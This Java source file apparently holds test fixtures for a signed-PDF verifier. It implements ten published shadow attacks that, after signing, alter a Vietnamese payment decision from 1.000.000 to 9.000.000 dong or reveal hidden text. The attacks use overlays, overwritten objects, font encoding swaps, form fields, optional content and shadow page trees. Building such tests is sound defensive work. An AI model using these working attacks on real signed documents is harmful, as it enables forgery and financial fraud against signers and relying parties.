package sohoa.sign.verify;

import com.itextpdf.forms.PdfAcroForm;
import com.itextpdf.forms.fields.PdfFormField;
import com.itextpdf.forms.fields.TextFormFieldBuilder;
import com.itextpdf.io.font.constants.StandardFonts;
import com.itextpdf.kernel.colors.ColorConstants;
import com.itextpdf.kernel.font.PdfFontFactory;
import com.itextpdf.kernel.geom.Rectangle;
import com.itextpdf.kernel.pdf.PdfArray;
import com.itextpdf.kernel.pdf.PdfDictionary;
import com.itextpdf.kernel.pdf.PdfDocument;
import com.itextpdf.kernel.pdf.PdfName;
import com.itextpdf.kernel.pdf.PdfNumber;
import com.itextpdf.kernel.pdf.PdfObject;
import com.itextpdf.kernel.pdf.PdfPage;
import com.itextpdf.kernel.pdf.PdfStream;
import com.itextpdf.kernel.pdf.PdfWriter;
import com.itextpdf.kernel.pdf.annot.PdfAnnotation;
import com.itextpdf.kernel.pdf.annot.PdfSquareAnnotation;
import com.itextpdf.kernel.pdf.canvas.PdfCanvas;
import com.itextpdf.kernel.pdf.layer.PdfLayer;
import com.itextpdf.kernel.pdf.xobject.PdfFormXObject;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.List;

/**
 * The published shadow attack classes on signed PDFs (Mainka, Mladenov, Rohlmann: "Shadow
 * Attacks: Hiding and Replacing Content in Signed PDFs", NDSS 2021), each as code: the shadow
 * document the attacker has signed, and the incremental update made after signing. The signer
 * sees a payment of 1.000.000 đồng; after the update a reader sees 9.000.000, or text that was
 * hidden when signed. Hide: via overlay, via overwriting an object, via an object referenced from
 * an unchanged one, via a form field, via optional content. Replace: via an overlay form field,
 * via overwriting a font, via a referenced form XObject. Hide-and-replace: a page tree already in
 * the signed file put in place by a new catalog, or by overwriting the page tree's root.
 */
enum ShadowAttack {
  HIDE_VIA_OVERLAY_ANNOTATION(ChangeClass.ANNOTATION) {
    @Override
    void prepare(PdfDocument pdf) throws IOException {
      PdfPage page = document(pdf, 1);
      hiddenText(page);
      PdfSquareAnnotation cover = new PdfSquareAnnotation(COVER);
      cover.setInteriorColor(new float[] {1, 1, 1}).setColor(ColorConstants.WHITE);
      cover.setNormalAppearance(whiteBox(pdf).getPdfObject());
      page.addAnnotation(cover);
    }

    @Override
    byte[] update(byte[] signed) throws IOException {
      return IncrementalUpdate.appended(signed, pdf -> {
        PdfPage page = pdf.getPage(1);
        page.getPdfObject().getAsArray(PdfName.Annots).remove(0);
        page.getPdfObject().setModified();
      });
    }
  },
  HIDE_VIA_OVERWRITE(ChangeClass.RESOURCE) {
    @Override
    void prepare(PdfDocument pdf) throws IOException {
      PdfPage page = document(pdf, 1);
      hiddenText(page);
      new PdfCanvas(page).addXObjectAt(whiteBox(pdf), COVER.getX(), COVER.getY());
    }

    @Override
    byte[] update(byte[] signed) throws IOException {
      return IncrementalUpdate.appended(signed, pdf -> {
        PdfStream cover = firstXObject(pdf.getPage(1));
        cover.setData(new byte[0]);
        cover.setModified();
      });
    }
  },
  /** On the last of twelve pages: validators that render the first ten pages only miss it. */
  HIDE_VIA_REFERENCED_OBJECT(ChangeClass.RESOURCE) {
    @Override
    void prepare(PdfDocument pdf) throws IOException {
      PdfPage page = document(pdf, 12);
      hiddenText(page);
      new PdfCanvas(page).addXObjectAt(whiteBox(pdf), COVER.getX(), COVER.getY());
      page.getPdfObject().get(PdfName.Resources).makeIndirect(pdf);
    }

    @Override
    byte[] update(byte[] signed) throws IOException {
      return IncrementalUpdate.appended(signed, pdf -> {
        PdfPage page = pdf.getPage(12);
        PdfDictionary xobjects = page.getPdfObject().getAsDictionary(PdfName.Resources)
            .getAsDictionary(PdfName.XObject);
        PdfName name = xobjects.keySet().iterator().next();
        PdfFormXObject empty = new PdfFormXObject(COVER);
        xobjects.put(name, empty.getPdfObject().makeIndirect(pdf));
        page.getPdfObject().getAsDictionary(PdfName.Resources).setModified();
      });
    }
  },
  HIDE_VIA_FORM(ChangeClass.FORM_FIELD) {
    @Override
    void prepare(PdfDocument pdf) throws IOException {
      PdfPage page = document(pdf, 1);
      hiddenText(page);
      PdfFormField cover = new TextFormFieldBuilder(pdf, "ghi_chu").setWidgetRectangle(COVER)
          .setPage(1).createText();
      cover.setValue(" ");
      cover.getFirstFormAnnotation().setBackgroundColor(ColorConstants.WHITE);
      cover.getWidgets().get(0).setNormalAppearance(whiteBox(pdf).getPdfObject());
      PdfAcroForm.getAcroForm(pdf, true).addField(cover);
    }

    @Override
    byte[] update(byte[] signed) throws IOException {
      return IncrementalUpdate.appended(signed, pdf -> {
        PdfFormField field = PdfAcroForm.getAcroForm(pdf, false).getField("ghi_chu");
        PdfAnnotation widget = field.getWidgets().get(0);
        widget.setNormalAppearance(new PdfFormXObject(COVER).getPdfObject());
        widget.setFlags(PdfAnnotation.PRINT | PdfAnnotation.HIDDEN);
        widget.getPdfObject().setModified();
      });
    }
  },
  HIDE_VIA_OPTIONAL_CONTENT(ChangeClass.OPTIONAL_CONTENT) {
    @Override
    void prepare(PdfDocument pdf) throws IOException {
      PdfPage page = document(pdf, 1);
      PdfLayer hidden = new PdfLayer("Ghi chu", pdf);
      hidden.setOn(false);
      PdfCanvas canvas = new PdfCanvas(page).beginLayer(hidden);
      text(canvas, HIDDEN, COVER.getX() + 2, COVER.getY() + 4);
      canvas.endLayer();
    }

    @Override
    byte[] update(byte[] signed) throws IOException {
      return IncrementalUpdate.appended(signed, pdf -> {
        PdfDictionary defaults = pdf.getCatalog().getPdfObject()
            .getAsDictionary(PdfName.OCProperties).getAsDictionary(PdfName.D);
        defaults.put(PdfName.OFF, new PdfArray());
        pdf.getCatalog().getPdfObject().getAsDictionary(PdfName.OCProperties).setModified();
        defaults.setModified();
        pdf.getCatalog().getPdfObject().setModified();
      });
    }
  },
  REPLACE_VIA_OVERLAY_FORM(ChangeClass.FORM_FIELD) {
    @Override
    void prepare(PdfDocument pdf) throws IOException {
      document(pdf, 1);
      PdfFormField amount = new TextFormFieldBuilder(pdf, "so_tien").setWidgetRectangle(AMOUNT)
          .setPage(1).createText();
      amount.setValue("1.000.000");
      amount.getFirstFormAnnotation().setBorderWidth(0);
      PdfAcroForm.getAcroForm(pdf, true).addField(amount);
    }

    @Override
    byte[] update(byte[] signed) throws IOException {
      return IncrementalUpdate.appended(signed, pdf -> {
        PdfAcroForm.getAcroForm(pdf, false).getField("so_tien").setValue("9.000.000");
      });
    }
  },
  REPLACE_VIA_OVERWRITE_FONT(ChangeClass.RESOURCE) {
    @Override
    void prepare(PdfDocument pdf) throws IOException {
      PdfPage page = document(pdf, 1);
      // The amount in a font whose code for '1' is the glyph "one": until its encoding changes.
      PdfDictionary differences = new PdfDictionary();
      differences.put(PdfName.Type, PdfName.Encoding);
      differences.put(PdfName.Differences, new PdfArray(List.of(new PdfNumber('1'),
          new PdfName("one"))));
      differences.makeIndirect(pdf);
      PdfDictionary font = new PdfDictionary();
      font.put(PdfName.Type, PdfName.Font);
      font.put(PdfName.Subtype, PdfName.Type1);
      font.put(PdfName.BaseFont, new PdfName("Helvetica"));
      font.put(PdfName.Encoding, differences);
      font.makeIndirect(pdf);
      PdfName name = page.getResources().addFont(pdf, PdfFontFactory.createFont(font));
      page.getResources().getResource(PdfName.Font).put(name, font);
      String content = "BT /" + name.getValue() + " 14 Tf " + AMOUNT.getX() + " "
          + (AMOUNT.getY() + 4) + " Td (1.000.000) Tj ET\n";
      new PdfCanvas(page).getContentStream().getOutputStream().writeBytes(
          content.getBytes(StandardCharsets.US_ASCII));
    }

    @Override
    byte[] update(byte[] signed) throws IOException {
      return IncrementalUpdate.appended(signed, pdf -> {
        for (PdfName name : pdf.getPage(1).getResources().getResourceNames(PdfName.Font)) {
          PdfDictionary font = pdf.getPage(1).getResources().getResource(PdfName.Font)
              .getAsDictionary(name);
          PdfDictionary encoding = font.getAsDictionary(PdfName.Encoding);
          if (encoding != null) {
            encoding.put(PdfName.Differences, new PdfArray(List.of(
                new PdfNumber('1'), new PdfName("nine"))));
            encoding.setModified();
          }
        }
      });
    }
  },
  REPLACE_VIA_REFERENCED_FORM_XOBJECT(ChangeClass.RESOURCE) {
    @Override
    void prepare(PdfDocument pdf) throws IOException {
      PdfPage page = document(pdf, 1);
      PdfFormXObject amount = new PdfFormXObject(new Rectangle(AMOUNT.getWidth(), 30));
      text(new PdfCanvas(amount, pdf), "1.000.000", 2, 8);
      new PdfCanvas(page).addXObjectAt(amount, AMOUNT.getX(), AMOUNT.getY());
    }

    @Override
    byte[] update(byte[] signed) throws IOException {
      return IncrementalUpdate.appended(signed, pdf -> {
        PdfStream amount = firstXObject(pdf.getPage(1));
        PdfFormXObject replacement = new PdfFormXObject(new Rectangle(AMOUNT.getWidth(), 30));
        text(new PdfCanvas(replacement, pdf), "9.000.000", 2, 8);
        amount.setData(replacement.getPdfObject().getBytes());
        amount.put(PdfName.Resources, replacement.getResources().getPdfObject());
        amount.setModified();
      });
    }
  },
  HIDE_AND_REPLACE_VIA_NEW_CATALOG(ChangeClass.PAGE_CONTENT) {
    @Override
    void prepare(PdfDocument pdf) throws IOException {
      shadowPageTree(document(pdf, 1));
    }

    @Override
    byte[] update(byte[] signed) throws IOException {
      return Shadow.find(signed).withNewCatalog(signed);
    }
  },
  HIDE_AND_REPLACE_VIA_OVERWRITTEN_PAGE_TREE(ChangeClass.PAGE_CONTENT) {
    @Override
    void prepare(PdfDocument pdf) throws IOException {
      shadowPageTree(document(pdf, 1));
    }

    @Override
    byte[] update(byte[] signed) throws IOException {
      return Shadow.find(signed).withPageTreeOverwritten(signed);
    }
  };

  static final String HIDDEN = "Chuyen khoan 9.000.000 dong cho ben B";
  private static final Rectangle COVER = new Rectangle(90, 600, 360, 40);
  private static final Rectangle AMOUNT = new Rectangle(250, 700, 160, 30);

  private final ChangeClass expected;

  ShadowAttack(ChangeClass expected) {
    this.expected = expected;
  }

  /** The class of change the verifier must name. */
  String expectedClass() {
    return expected.label();
  }

  /** Makes the shadow document the victim signs. */
  abstract void prepare(PdfDocument pdf) throws IOException;

  /** The signed file with the attacker's incremental update appended. */
  abstract byte[] update(byte[] signed) throws IOException;

  /** The shadow document, unsigned. */
  byte[] shadowDocument() throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (PdfDocument pdf = new PdfDocument(new PdfWriter(out))) {
      prepare(pdf);
    }
    return out.toByteArray();
  }

  /** {@code pages} pages of an official letter; the last one is returned. */
  private static PdfPage document(PdfDocument pdf, int pages) throws IOException {
    PdfPage page = null;
    for (int i = 1; i <= pages; i++) {
      page = pdf.addNewPage();
      PdfCanvas canvas = new PdfCanvas(page);
      text(canvas, "UY BAN NHAN DAN XA DINH HOA - trang " + i, 72, 780);
      text(canvas, "QUYET DINH so 125/QD-UBND ve viec chi tra", 72, 750);
      text(canvas, "So tien:", 72, 708);
      if (i == pages) {
        text(canvas, "Noi nhan: nhu tren. Luu: VT.", 72, 560);
      }
    }
    return page;
  }

  private static void hiddenText(PdfPage page) throws IOException {
    text(new PdfCanvas(page), HIDDEN, COVER.getX() + 2, COVER.getY() + 14);
  }

  private static void text(PdfCanvas canvas, String text, float x, float y) throws IOException {
    canvas.beginText().setFontAndSize(PdfFontFactory.createFont(StandardFonts.HELVETICA), 14)
        .moveText(x, y).showText(text).endText();
  }

  private static PdfFormXObject whiteBox(PdfDocument pdf) {
    PdfFormXObject box = new PdfFormXObject(new Rectangle(COVER.getWidth(), COVER.getHeight()));
    new PdfCanvas(box, pdf).setFillColor(ColorConstants.WHITE)
        .rectangle(0, 0, COVER.getWidth(), COVER.getHeight()).fill();
    return box;
  }

  private static PdfStream firstXObject(PdfPage page) {
    PdfDictionary xobjects = page.getResources().getResource(PdfName.XObject);
    return xobjects.getAsStream(xobjects.keySet().iterator().next());
  }

  /**
   * A second page tree kept in the file, referenced from nothing a reader shows: its page reads
   * as the attacker wants. Recorded in the catalog under a private key so the update can find it;
   * a real attack leaves it unreferenced, which changes nothing for the comparison.
   */
  private static void shadowPageTree(PdfPage real) {
    PdfDocument pdf = real.getDocument();
    PdfDictionary tree = new PdfDictionary();
    tree.put(PdfName.Type, PdfName.Pages);
    tree.makeIndirect(pdf);
    PdfStream content = new PdfStream();
    content.makeIndirect(pdf);
    PdfDictionary page = new PdfDictionary();
    page.put(PdfName.Type, PdfName.Page);
    page.put(PdfName.Parent, tree);
    page.put(PdfName.MediaBox, real.getPdfObject().get(PdfName.MediaBox));
    page.put(PdfName.Contents, content);
    PdfDictionary font = new PdfDictionary();
    font.put(PdfName.Type, PdfName.Font);
    font.put(PdfName.Subtype, PdfName.Type1);
    font.put(PdfName.BaseFont, new PdfName("Helvetica"));
    PdfDictionary fonts = new PdfDictionary();
    fonts.put(new PdfName("F1"), font);
    PdfDictionary resources = new PdfDictionary();
    resources.put(PdfName.Font, fonts);
    page.put(PdfName.Resources, resources);
    page.makeIndirect(pdf);
    content.setData(("BT /F1 14 Tf 72 708 Td (So tien: 9.000.000) Tj ET").getBytes(
        StandardCharsets.US_ASCII));
    tree.put(PdfName.Kids, new PdfArray(java.util.List.<PdfObject>of(page)));
    tree.put(PdfName.Count, new PdfNumber(1));
    pdf.getCatalog().getPdfObject().put(new PdfName("SohoaShadow"), tree);
  }
}
